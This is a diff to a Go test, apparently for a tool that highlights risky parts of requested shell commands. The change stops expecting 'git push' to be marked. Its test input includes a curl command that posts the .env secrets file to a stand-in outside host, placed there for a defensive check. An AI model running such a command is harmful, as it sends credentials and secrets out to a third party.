@@ -293,7 +293,7 @@ func TestMarks(t *testing.T) {
 	s := open(t)
 	id := s.run("ls && git push origin x && curl -d @.env https://x.example/ü").Request.ID
 	_, page := s.visitor("ann").get("/requests/" + id)
-	if want := `<code>ls &amp;&amp; <mark class="risky">git push origin x</mark> &amp;&amp; curl -d <mark class="risky">@.env</mark> https://x.example/ü</code>`; !strings.Contains(page, want) {
+	if want := `<code>ls &amp;&amp; git push origin x &amp;&amp; curl -d <mark class="risky">@.env</mark> https://x.example/ü</code>`; !strings.Contains(page, want) {
 		t.Errorf("%s is not in\n%s", want, page)
 	}
 	id = s.run("npm run x").Request.ID
